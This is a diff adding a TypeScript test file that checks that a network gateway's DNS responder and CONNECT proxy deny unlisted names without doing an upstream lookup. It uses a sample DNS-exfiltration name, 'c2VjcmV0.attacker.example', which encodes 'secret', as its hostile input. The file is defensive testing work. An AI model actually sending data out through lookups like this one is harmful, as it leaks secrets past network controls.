@@ -1,0 +1,69 @@
+// A name no rule could allow is denied before anything is asked upstream: the lookup itself
+// could carry data out (`c2VjcmV0.attacker.example`). Proved by a resolver that counts what it
+// is asked; the control (a listed name) is asked and resolved.
+import assert from 'node:assert/strict';
+import net from 'node:net';
+import { test } from 'node:test';
+import { answerDns, Gateway, startProxy, type Resolver } from '../../src/net/index.js';
+import { policy } from './helpers/world.js';
+
+function spy(): Resolver & { asked: string[] } {
+  const asked: string[] = [];
+  return { asked, resolve: async (h) => { asked.push(h); return h === 'allowed.test' ? ['1.2.3.4'] : ['127.0.0.9']; } }; // answers are values only: nothing connects here
+}
+
+function query(name: string, type: number): Buffer {
+  const labels = Buffer.concat(name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)])));
+  const h = Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
+  return Buffer.concat([h, labels, Buffer.from([0, 0, type, 0, 1])]);
+}
+
+const domainsOnly = policy(`version: 1
+name: domains-only
+network_rules:
+  - name: listed
+    domains: [allowed.test]
+    decision: allow
+`);
+
+test('DNS: A and TXT for an unlisted name get NXDOMAIN without an upstream lookup; the listed name is looked up', async () => {
+  const r = spy();
+  const gw = new Gateway({ policy: domainsOnly, resolver: r });
+  for (const type of [1, 16]) {
+    const out = (await answerDns(gw, query('c2VjcmV0.attacker.example', type)))!;
+    assert.equal(out[3]! & 15, 3);
+  }
+  assert.deepEqual(r.asked, []);
+  const ok = (await answerDns(gw, query('allowed.test', 1)))!;
+  assert.equal(ok[3]! & 15, 0);
+  assert.deepEqual(r.asked, ['allowed.test']);
+});
+
+test('proxy: CONNECT to an unlisted name is denied by the policy (not "unresolvable") without an upstream lookup', async () => {
+  const r = spy();
+  const p = await startProxy({ policy: domainsOnly, resolver: r });
+  try {
+    const s = net.connect(p.address.port, '127.0.0.1');
+    s.write('CONNECT c2VjcmV0.attacker.example:443 HTTP/1.1\r\nHost: c2VjcmV0.attacker.example:443\r\n\r\n');
+    let out = '';
+    for await (const c of s) out += (c as Buffer).toString();
+    assert.match(out, /^HTTP\/1\.1 403[\s\S]*rule "defaults\.network"/);
+    assert.deepEqual(r.asked, []);
+  } finally {
+    await p.close();
+  }
+});
+
+test('with an address-based allow rule the name must be resolved to be decided (documented limit)', async () => {
+  const r = spy();
+  const gw = new Gateway({ policy: policy(`version: 1
+name: with-cidrs
+network_rules:
+  - name: lab
+    cidrs: [127.0.0.2/32]
+    decision: allow
+`), resolver: r });
+  const out = (await answerDns(gw, query('unlisted.example', 1)))!;
+  assert.equal(out[3]! & 15, 3);
+  assert.deepEqual(r.asked, ['unlisted.example']);
+});
